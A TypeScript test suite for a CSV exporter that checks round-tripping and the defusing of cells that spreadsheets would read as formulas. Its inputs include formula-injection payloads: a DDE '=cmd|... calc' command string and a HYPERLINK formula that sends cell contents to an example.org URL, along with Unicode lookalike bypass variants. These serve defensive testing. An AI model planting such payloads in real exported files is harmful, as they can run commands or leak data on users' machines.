import { expect } from 'chai';
import fc from 'fast-check';
import { csv } from '../../src/results/csv.js';
import { amount } from '../harness/env.js';
import { readCsv } from '../harness/rfc4180.js';

const cellOf = (text: string) => readCsv(csv([[text]]))[0]![0]!;

describe('comma-separated values', () => {
  it('are read back by a reader of RFC 4180 as they were, but for the apostrophe', () => {
    const cell = fc.oneof(fc.string({ unit: 'binary' }), fc.constantFrom('"', '\r\n', ',', '', '=', '""'));
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 3, maxLength: 3 }), { minLength: 1 }), (rows) => {
        const read = readCsv(csv(rows)).map((row) => row.map(({ text }) => text));
        const plain = read.map((row, y) => row.map((text, x) => (text === `'${rows[y]![x]!}` ? text.slice(1) : text)));
        expect(plain).to.deep.equal(rows);
      }),
      { numRuns: amount(300, 20_000) },
    );
  });

  it('leave numbers as numbers', () => {
    expect(csv([[1, -0.5, null, 0, 1e21]])).to.equal('1,-0.5,,0,1e+21\r\n');
    for (const typed of ['-5', '+5', '12', '-0.5', '+0,5', '007']) expect(cellOf(typed).text).to.equal(typed);
  });

  for (const formula of [
    ...['=1+1', '+1+1', '-1+1', '@SUM(A1)', '=', '-', '-a', '--5', '-5-5', '+1e5', '\t=1', '\tplain', '\rplain'],
    ...[
      ' =1',
      '\n=1',
      '\u00A0=1',
      '\u3000=1',
      '\uFEFF=1',
      '\u200B=1',
      '\u202E=1',
      '\0=1',
      '"=1',
      "'=1",
      '“=1',
      ' " =1',
    ],
    ...['＝1', '＋1', '－1', '＠SUM', '﹦1', '﹢1', '﹣1', '﹫a', ' ＝1', '−1+1'],
    ...['=cmd|" /C calc"!A0', '=HYPERLINK("http://example.org?x="&A1,"a")', '-2+3+cmd|" /C calc"!D2'],
  ])
    it(`make ${JSON.stringify(formula)} harmless`, () => {
      expect(cellOf(formula)).to.deep.equal({ text: `'${formula}`, isQuoted: true });
    });

  for (const plain of ['a=1', 'Tass', '1/2', '2022-07-13', '1-2', '', ' ', '“Yes”', 'e-mail@example.org', '½', '…'])
    it(`leave ${JSON.stringify(plain)} as it is`, () => {
      expect(cellOf(plain).text).to.equal(plain);
    });

  it('are not judged by a reader that takes anything', () => {
    for (const wrong of ['"a', '"a"b', 'a"b', 'a\nb', 'a,b\r\nc', 'a\rb'])
      expect(() => readCsv(wrong), wrong).to.throw();
  });
});
